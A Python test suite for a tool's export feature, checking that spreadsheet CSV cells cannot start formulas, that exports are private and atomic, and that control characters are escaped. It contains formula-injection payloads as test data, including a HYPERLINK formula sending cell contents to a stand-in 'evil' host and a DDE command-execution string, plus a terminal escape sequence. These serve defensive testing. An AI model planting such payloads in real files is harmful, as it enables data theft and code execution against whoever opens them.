"""D: export faults (docs/reliability.md, the D cases). An export is a consistent snapshot, written
atomically and privately, never onto the store; the spreadsheet CSV cannot run formulas;
the data export stays exactly what was stored.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netinbox import exporters
from netinbox.exporters import FORMULA_TRIGGERS
from netinbox.store import Store
from tests.conftest import to_csv

from .conftest import Child, invitations_csv, ok, refused, snapshot

TRIGGERS = "=+-@\t\r\n\x00"


# --- D-1, D-2: the CSV for spreadsheets ---------------------------------------------------

cell_text = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30
) | st.sampled_from(
    [
        '=HYPERLINK("https://evil/?"&A1,"click")',
        "+49 170 1234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=cmd|' /C calc'!A0",
        "\n=1",
        "=1\n=2",
    ]
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=cell_text, headline=cell_text, company=cell_text, message=cell_text, note=cell_text)
def test_d1_no_spreadsheet_cell_starts_with_a_formula_trigger(
    tmp_path_factory: pytest.TempPathFactory,
    rec,  # type: ignore[no-untyped-def]
    name: str,
    headline: str,
    company: str,
    message: str,
    note: str,
) -> None:
    path = tmp_path_factory.mktemp("d1") / "n.db"
    with Store(path) as store:
        rid = store.add_request(
            rec(
                f"{name}x",
                headline=headline,
                company=company,
                message=message,
                profile_url=None,
            )
        )
        store.decline(rid, note)
        text = to_csv(store)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(tuple(TRIGGERS)), repr(cell)
    assert set(TRIGGERS) <= set("".join(FORMULA_TRIGGERS))


def test_d2_the_spreadsheet_csv_is_utf8_with_bom_and_takes_a_semicolon(
    filled: Path, tmp_path: Path
) -> None:
    out = tmp_path / "for-excel.csv"
    ok("export", "--db", filled, "--format", "csv", "--delimiter", ";", "-o", out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row["name"] for row in rows] == ["Person 0", "Person 1", "Person 2"]


# --- D-3: written privately, atomically, never onto the store ------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_d3_an_export_file_is_private_whatever_the_umask(
    filled: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    old = os.umask(0)
    try:
        ok("export", "--db", filled, "--format", fmt, "-o", out)
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []


@pytest.mark.parametrize("fails_at", ["write", "fsync", "replace"])
def test_d3_a_failed_export_leaves_the_old_file_and_no_partial_one(
    filled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fails_at: str
) -> None:
    out = tmp_path / "out.json"
    out.write_text("yesterday's export\n")

    def no_space(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    if fails_at == "write":
        monkeypatch.setattr(exporters.os, "fdopen", lambda *a, **k: _FailingFile(*a, **k))
    else:
        monkeypatch.setattr(exporters.os, fails_at, no_space)
    line = refused("export", "--db", filled, "-o", out)
    assert "full" in line or "No space left" in line, line
    assert out.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["out.json", *(p.name for p in tmp_path.iterdir() if p.name.startswith("n.db"))]
    )


class _FailingFile(io.StringIO):
    def __init__(self, fd: int, *args: object, **kwargs: object) -> None:
        super().__init__()
        os.close(fd)

    def write(self, text: str) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    def fileno(self) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")


def alias_of(store: Path, kind: str) -> Path:
    if kind in ("-wal", "-shm", ".lock"):
        target = Path(f"{store}{kind}")
        target.touch(mode=0o600)
        return target
    if kind == "symlink":
        link = store.with_name("link.db")
        link.symlink_to(store)
        return link
    if kind == "hardlink":
        link = store.with_name("hard.db")
        os.link(store, link)
        return link
    return store


@pytest.mark.parametrize("kind", ["itself", "-wal", "-shm", ".lock", "symlink", "hardlink"])
def test_d3_export_never_writes_onto_the_store(filled: Path, kind: str) -> None:
    target = alias_of(filled, kind)
    before = snapshot(filled)
    line = refused("export", "--db", filled, "-o", target)
    assert "store" in line, line
    assert snapshot(filled) == before


# --- D-4: a consistent snapshot while the app writes ---------------------------------------


def test_d4_export_while_the_app_imports_sees_all_or_nothing(
    filled: Path, tmp_path: Path, child: Callable[..., Child]
) -> None:
    csv_file = invitations_csv(tmp_path / "Invitations.csv", 5000)
    holder = child("hold", filled)
    holder.expect("locked")
    holder.proc.stdin.write(f"import {csv_file}\n")  # type: ignore[union-attr]
    holder.proc.stdin.flush()  # type: ignore[union-attr]
    counts = [len(json.loads(ok("export", "--db", filled).stdout)) for _ in range(4)]
    assert holder.line() == "imported 5000"
    counts.append(len(json.loads(ok("export", "--db", filled).stdout)))
    assert set(counts) <= {3, 5003} and counts[-1] == 5003, counts


# --- D-5: control characters in exported data ----------------------------------------------


def test_d5_json_escapes_control_characters_and_keeps_the_text(db_path: Path, rec) -> None:  # type: ignore[no-untyped-def]
    name = "Eve\x1b]2;t\x07 \x01\x7f"
    with Store(db_path) as store:
        store.add_request(rec(name))
    out = ok("export", "--db", db_path).stdout
    assert "\x1b" not in out and "\x07" not in out and "\\u001b" in out
    assert json.loads(out)[0]["name"] == name
